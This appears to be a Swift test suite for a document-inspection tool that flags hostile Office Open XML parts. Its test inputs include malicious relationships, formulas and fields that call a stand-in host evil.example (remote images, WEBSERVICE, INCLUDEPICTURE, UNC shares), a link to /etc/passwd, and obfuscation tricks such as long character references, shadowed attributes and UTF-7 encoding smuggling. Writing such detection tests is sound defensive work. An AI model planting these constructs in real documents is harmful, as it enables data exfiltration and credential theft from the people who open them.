import Foundation
import Testing

@testable import Inspection

/// Attack round 10 on inspection: OOXML attributes and character references read as XML reads them, and the first
/// line LibreOffice takes an encoding from.
struct Round10Tests {
    static func findings(_ part: String, name: String = "xl/drawings/drawing1.xml", links: Set<String> = ["rId1"]) -> [String] {
        OOXMLParts.findings(partName: name, bytes: Array(part.utf8), externalLinks: links)
    }

    /// Every spelling of a linked picture's use of an external hyperlink Id is found: another namespace's copy of the
    /// attribute, a long character reference, a tab that XML reads as a space.
    @Test(arguments: [
        #"<a:blip r:link="rId1" x:link="zzz"/>"#, #"<a:blip x:link="zzz" r:link="rId1"/>"#, #"<a:blip r:link="&#x0000000072;Id1"/>"#,
        #"<a:blip r:link="r&#0000000000073;d1"/>"#, "<a:blip r:link=\"rId\t1\"/>", #"<a:blip r:link="rId1" r:LINK="zzz"/>"#,
    ])
    func anExternalHyperlinkUsedByAPictureIsFoundHoweverItIsSpelled(_ blip: String) {
        let links: Set<String> = blip.contains("\t") ? ["rId 1"] : ["rId1"]
        #expect(!Self.findings("<xdr:wsDr><xdr:pic>\(blip)</xdr:pic></xdr:wsDr>", links: links).isEmpty, "\(blip.debugDescription)")
    }

    /// A relationship's attribute repeated in another namespace or case shadows the one readers take.
    @Test(arguments: [
        #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/x.png" TargetMode="External" x:Target="../media/image1.png" x:TargetMode="Internal"/>"#,
        #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="\\evil.example\share\x.docx" TARGET="https://example.com/" TargetMode="External"/>"#,
        #"<Relationship Id="rId1" ID="fake" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/x.png"/>"#,
    ])
    func aShadowedRelationshipAttributeIsFound(_ relationship: String) {
        let part = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\(relationship)</Relationships>"
        #expect(!Self.findings(part, name: "xl/drawings/_rels/drawing1.xml.rels", links: []).isEmpty, "\(relationship)")
    }

    /// A formula's name written with long character references is the function.
    @Test(arguments: ["_xlfn.&#x0000000057;EBSERVICE(\"https://evil.example\")", "&#0000000072;YPERLINK(\"file:///etc/passwd\",\"x\")"])
    func aFormulaSpelledWithLongCharacterReferencesIsFound(_ formula: String) {
        #expect(
            !Self.findings(
                "<worksheet><sheetData><row><c><f>\(formula)</f></c></row></sheetData></worksheet>",
                name: "xl/worksheets/sheet1.xml",
                links: []
            ).isEmpty
        )
    }

    /// LibreOffice converts a part from the first ` encoding` on its first line, wherever it stands.
    @Test(arguments: [
        "<?xml version=\"1.0\" standalone=\"yes\"?><!-- encoding 'UTF-7' --><worksheet/>",
        "<?xml version=\"1.0\"?><?x encoding='UTF-7'?><worksheet/>",
        "<?xml version=\"1.0\"\tencoding=\"UTF-8\"?><!-- encoding 'UTF-7' --><worksheet/>", "<worksheet a=\" encoding'\"/><!--'\"/>--></worksheet>",
    ])
    func anEncodingNamedOutsideTheDeclarationIsFound(_ part: String) {
        #expect(Self.findings(part, name: "xl/worksheets/sheet1.xml", links: []).contains { $0.contains("first line") }, "\(part)")
    }

    /// Ordinary parts: a declaration naming UTF-8, PresentationML's `id` beside `r:id`, namespace declarations, an
    /// encoding mentioned on a later line.
    @Test func ordinaryPartsStayClean() {
        let parts = [
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n<worksheet xmlns=\"x\" xmlns:r=\"y\"><c r=\"A1\"><v>1</v></c></worksheet>",
            "<p:presentation xmlns:p=\"p\" xmlns:r=\"r\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst></p:presentation>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<w:document><w:t>the encoding of this file</w:t></w:document>",
        ]
        for part in parts { #expect(Self.findings(part, name: "ppt/presentation.xml", links: []).isEmpty, "\(part)") }
    }
}

/// Attack round 11: XML's end-of-line handling in attribute values, the declaration's own `encoding` as the only one
/// on the first line, a decoy attribute in another namespace, a second byte-order mark.
struct Round11Tests {
    @Test(arguments: ["<a:blip r:link=\"rId\r\n1\"/>", "<a:blip r:link=\"rId\r1\"/>"])
    func lineEndsInAnAttributeValueAreOneSpace(_ blip: String) {
        #expect(!Round10Tests.findings("<xdr:wsDr><xdr:pic>\(blip)</xdr:pic></xdr:wsDr>", links: ["rId 1"]).isEmpty, "\(blip.debugDescription)")
    }

    @Test(arguments: [
        "<?xml-stylesheet href=\" encoding='UTF-7'\"?><Relationships/>",
        "<?xml version=\"1.0\" standalone=\" encoding='UTF-7'yes\"?><Relationships/>",
        "<?xml-x encoding?><!--='UTF-8'?><Relationships/>",
    ])
    func onlyTheDeclarationsOwnEncodingMayBeTheFirstOnItsLine(_ part: String) {
        #expect(Round10Tests.findings(part, name: "xl/drawings/_rels/drawing1.xml.rels", links: []).contains { $0.contains("first line") }, "\(part)")
    }

    /// .NET's XmlWriter writes a whole part on one line: a later mention of "encoding" in text is no encoding.
    @Test func aOneLinePartMentioningEncodingInItsTextStaysClean() {
        let part =
            "<?xml version=\"1.0\" encoding=\"utf-8\"?><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>Video encoding settings</t></is></c></row></sheetData></worksheet>"
        #expect(Round10Tests.findings(part, name: "xl/worksheets/sheet1.xml", links: []).isEmpty)
    }

    @Test(arguments: [
        #"<w:fldSimple instr=" PAGE " w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \d "/>"#,
        #"<w:attachedTemplate val="Normal.dotm" w:val="\\evil.example\share\t.dotm"/>"#,
    ])
    func aDecoyAttributeInAnotherNamespaceIsFound(_ element: String) {
        #expect(!Round10Tests.findings("<w:document>\(element)</w:document>", name: "word/document.xml", links: []).isEmpty, "\(element)")
    }

    @Test(
        arguments: [
            [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, 0x3C], [0xEF, 0xBB, 0xBF, 0xFF, 0xFE, 0x3C, 0x00], [0xEF, 0xBB, 0xBF, 0x00, 0x00, 0x00, 0x3C],
        ] as [[UInt8]]
    )
    func aSecondByteOrderMarkIsFound(_ head: [UInt8]) {
        #expect(OOXMLParts.unreadableXMLEncoding(head) != nil)
        #expect(OOXMLParts.unreadableXMLEncoding([0xEF, 0xBB, 0xBF, 0x3C, 0x61]) == nil)
    }
}
